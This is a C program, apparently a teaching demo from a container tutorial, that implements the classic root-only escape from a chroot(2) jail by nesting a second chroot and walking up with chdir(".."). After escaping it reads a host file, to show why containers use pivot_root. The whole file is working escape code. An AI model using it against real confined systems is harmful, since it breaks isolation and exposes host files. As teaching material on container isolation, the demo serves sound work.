/*
 * chroot-escape: the classic way out of a chroot(2) jail, to show why containers use
 * pivot_root(2) instead. Stage 1 notes: stages/01-namespaces/README.md, "Why pivot_root, not chroot".
 *
 * chroot() changes how "/" is resolved for this process; it does not change the current
 * directory, and ".." is only stopped at the process's root if the walk passes through it.
 * So a root user inside a chroot can: make a directory, chroot into it (the current directory
 * is now *outside* the new root), walk up with chdir("..") as far as it goes — past the old
 * jail — and chroot(".") at the real root.
 *
 * Under pivot_root in a mount namespace there is no "outside" left to walk to: the old root
 * was unmounted, and ".." of the namespace's root is itself.
 *
 * Usage: chroot-escape FILE  — tries to escape, then reads FILE (a path on the host).
 * Prints "escaped: <first line of FILE>" or "contained: <why>". Exit 0 either way.
 * Build: cc -static -O2 -o chroot-escape chroot-escape.c
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 2) {
        fprintf(stderr, "usage: %s FILE\n", argv[0]);
        return 2;
    }
    /* 1. A directory to chroot into, without moving our current directory into it. */
    mkdir("/.escape-hatch", 0700);
    if (chroot("/.escape-hatch") != 0) {
        printf("contained: chroot: %s\n", strerror(errno));
        return 0;
    }
    /* 2. Our current directory is outside the new root: walk up from it, as far as it goes. */
    for (int i = 0; i < 256; i++) {
        if (chdir("..") != 0) break;
    }
    /* 3. Make wherever we ended up the root, and look for the host's file. */
    if (chroot(".") != 0) {
        printf("contained: chroot(.): %s\n", strerror(errno));
        return 0;
    }
    FILE *f = fopen(argv[1], "r");
    if (f == NULL) {
        printf("contained: %s: %s\n", argv[1], strerror(errno));
        return 0;
    }
    char line[256] = "";
    if (fgets(line, sizeof line, f) == NULL) line[0] = '\0';
    line[strcspn(line, "\n")] = '\0';
    printf("escaped: %s\n", line);
    fclose(f);
    return 0;
}
